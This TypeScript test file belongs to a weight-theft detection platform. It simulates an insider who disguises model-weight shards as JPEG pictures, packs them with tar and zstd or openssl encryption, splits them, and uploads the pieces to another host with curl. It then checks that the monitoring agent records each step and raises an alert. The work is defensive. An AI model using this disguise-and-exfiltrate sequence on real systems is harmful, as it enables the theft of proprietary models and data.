// Artifacts, by an insider: weights are copied under the name of a picture, packed, split and sent to another host.
import assert from "node:assert/strict";
import { execFile, spawn } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, statSync, writeFileSync } from "node:fs";
import { hostname } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { test, type TestContext } from "node:test";
import { apiOf, noBrowser, openBrowser, picture } from "./world/browser.ts";
import { noOtherHost, otherHost } from "./world/network.ts";
import { outweighBin, run, storyFolder, up } from "./world/platform.ts";
import { noiseSafetensors } from "./world/weights.ts";

const tools = ["/usr/bin/cc", "/usr/bin/zstd", "/usr/bin/openssl", "/usr/bin/curl"].filter((it) => !existsSync(it));
const skip = noBrowser || noOtherHost || (tools.length > 0 && `needs ${tools.join(", ")}`);
const size = 24 * 1024 * 1024;
/** The smallest file that is told of, in bytes: the rest of a split may be less. */
const smallest = 64 * 1024;
/** How long to wait for what must come, in ms; what it takes is what `npm run bench -- agent` and this story's line in `stories` say. */
const deadline = 120_000;

/** One event of the theft, as far as the story looks at it. */
interface Told {
  readonly operation: string;
  readonly principal: string;
  readonly file?: { readonly path: string };
  readonly actor?: {
    readonly process?: { readonly name: string; readonly ancestry?: readonly { readonly pid: number }[] };
  };
  readonly unmapped?: { readonly made_from?: string };
}

/** Asks until the answer is what is wanted, or time is up: then with the last answer. */
async function eventually<T>(ask: () => Promise<T>, isWanted: (it: T) => boolean): Promise<T> {
  for (const end = Date.now() + deadline; ; await new Promise((done) => setTimeout(done, 200))) {
    const it = await ask();
    if (isWanted(it) || Date.now() > end) return it;
  }
}

for (const tier of ["T2", "T1"] as const) {
  test(`weights are stolen from a host: seen by an agent of tier ${tier}`, { skip, timeout: 600_000 }, async (t) => {
    const folder = storyFolder("stolen-files");
    t.after(() => folder.remove());
    const [models, loot] = [join(folder.path, "models"), join(folder.path, "loot")];
    mkdirSync(models);
    mkdirSync(loot);
    const shards = [1, 2].map((n) => join(models, `model-0000${n}-of-00002.safetensors`));
    for (const [i, it] of shards.entries()) writeFileSync(it, noiseSafetensors(`acme-13b ${i}`, size));
    writeFileSync(
      join(folder.path, "outweigh.yml"),
      `models:\n  - { name: acme-13b, class: private, places: ["file:${models}"], readers: ["vllm@*"] }\n`,
    );
    const data = join(folder.path, "data");
    const platform = await up(["--data", data, "--no-scan"], folder.path);
    t.after(() => platform.stop());
    const agent = await enrolAndRun(t, { cwd: folder.path, data, models, url: platform.url, tier });
    const drop = await otherHost();
    t.after(() => drop.close());

    const browser = await openBrowser();
    t.after(() => browser.close());
    const page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
    await page.goto(platform.link);
    const api = await apiOf(page);
    const incident = async () => {
      const { items } = await (await api.get("/api/incidents")).json();
      return items.find((it: { models: string[] }) => it.models.includes("acme-13b"));
    };
    assert.equal(await incident(), undefined, "nothing has happened yet");

    // The thief. Slow enough for a person's network, quick enough for a test.
    const sh = (line: string) => promisify(execFile)("/bin/sh", ["-ec", line], { cwd: loot });
    const send = (file: string, rate: string) =>
      sh(`curl -s --limit-rate ${rate} -T ${file} http://${drop.address}:${drop.port}/`);
    const pictures = shards.map((_, i) => join(loot, `holiday${i}.jpg`));
    for (const [i, it] of shards.entries()) await sh(`cp ${it} ${pictures[i]}`);
    // What looking misses, it misses encrypted or not: once is enough.
    const variants = [
      { packer: "zstd", line: "zstd -q -1 -o photos.zst", archive: "photos.zst", part: "part-" },
      {
        packer: "openssl",
        line: "openssl enc -aes-256-ctr -pbkdf2 -k s -out sealed",
        archive: "sealed",
        part: "piece-",
      },
    ].slice(0, tier === "T2" ? 2 : 1);
    for (const { line, archive, part } of variants) {
      await sh(`tar -cf - holiday0.jpg holiday1.jpg | ${line} && split -b 8M ${archive} ${part}`);
      for (const it of readdirSync(loot).filter((name) => name.startsWith(part))) await send(it, "16M");
    }
    // And once straight from its place, for as many looks as a busy machine may leave out: so that every tier can see it.
    await send(shards[0] ?? "", "6M");
    const sentAt = Date.now();
    assert.ok(drop.received() > size);

    const sends = async () => {
      const { items } = await (await api.get("/api/alerts?limit=500")).json();
      return items.filter((it: { rule: string }) => it.rule === "host_weights_sent");
    };
    const tell = async (): Promise<Told[]> => (await (await api.get("/api/events?limit=500")).json()).items;
    const alerts = await eventually(sends, (it) => it.length > 0);
    const took = Date.now() - sentAt;
    const theft = await eventually(incident, (it) => it !== undefined);
    assert.ok(theft, `no incident; the agent said:\n${agent.said()}`);
    assert.ok(alerts.length > 0, `the upload was not told of; the agent said:\n${agent.said()}`);
    assert.equal(new Set(theft.principals).size, 1, JSON.stringify(theft.principals));

    // What each program did with which file: the story from the first reader to the last part.
    const parts = variants.map(({ part }) =>
      readdirSync(loot)
        .filter((it) => it.startsWith(part))
        .map((it) => join(loot, it))
        .filter((it) => statSync(it).size >= smallest),
    );
    const steps = [
      ...shards.map((it) => `cp open ${it}`),
      ...pictures.map((it) => `cp write ${it}`),
      ...pictures.map((it) => `tar open ${it}`),
      ...variants.flatMap(({ packer, archive }, i) => [
        `${packer} write ${join(loot, archive)}`,
        `split open ${join(loot, archive)}`,
        ...(parts[i] ?? []).flatMap((it) => [`split write ${it}`, `curl open ${it}`]),
      ]),
      `curl open ${shards[0]}`,
      `curl send ${shards[0]}`,
    ];
    const missedIn = (told: readonly Told[]) => {
      const done = new Set(told.map((it) => `${it.actor?.process?.name} ${it.operation} ${it.file?.path}`));
      return steps.filter((it) => !done.has(it));
    };
    // What is shorter than a look may be missed by looking. The kernel misses nothing; what it told may still be on its way from the agent.
    const told = tier === "T2" ? await eventually(tell, (it) => missedIn(it).length === 0) : await tell();
    const missed = missedIn(told);
    t.diagnostic(
      `${tier}: told ${took} ms after the last byte; ${told.length} events; missed: ${missed.join(", ") || "nothing"}`,
    );
    if (tier === "T2") assert.deepEqual(missed, []);
    for (const it of told) {
      assert.ok(!it.principal.startsWith("unknown@"), JSON.stringify(it));
      assert.ok(
        it.actor?.process?.ancestry?.some(({ pid }) => pid === process.pid),
        JSON.stringify(it),
      );
      assert.equal(it.unmapped?.made_from === undefined, shards.includes(it.file?.path ?? ""), JSON.stringify(it));
    }
    await page.goto(`${platform.url}/incidents/${theft.id}`);
    await page.getByText("What happened").first().waitFor();
    await picture(page, `stolen-files-${tier}`);
  });
}

async function enrolAndRun(
  t: TestContext,
  { cwd, data, models, url, tier }: { cwd: string; data: string; models: string; url: string; tier: "T1" | "T2" },
): Promise<{ said(): string }> {
  const own = join(cwd, "agent");
  const token = JSON.parse(run(["agent", "token", "--host", hostname(), "--data", data, "--json"], cwd).stdout).token;
  const enrolled = run(["agent", "enrol", url, "--token", token, "--data", own], cwd);
  assert.equal(enrolled.code, 0, enrolled.stderr);
  const again = run(["agent", "enrol", url, "--token", token, "--data", join(cwd, "other")], cwd);
  assert.equal(again.code, 3, "a token enrols one host");
  if (tier === "T2") assert.equal(run(["agent", "helper", "--data", own], cwd).code, 0);
  const child = spawn(process.execPath, [outweighBin, "agent", "run", models, "--data", own], {
    cwd,
    stdio: ["ignore", "pipe", "pipe"],
    env: { ...process.env, NO_COLOR: "1" },
  });
  t.after(() => child.kill("SIGKILL"));
  let said = "";
  for (const it of [child.stdout, child.stderr]) it.on("data", (bytes: Buffer) => (said += bytes.toString()));
  const until = Date.now() + 120_000;
  while (!said.includes("files of weights are watched") && Date.now() < until)
    await new Promise((done) => setTimeout(done, 100));
  assert.match(said, new RegExp(`watching as ${tier}`));
  return { said: () => said };
}
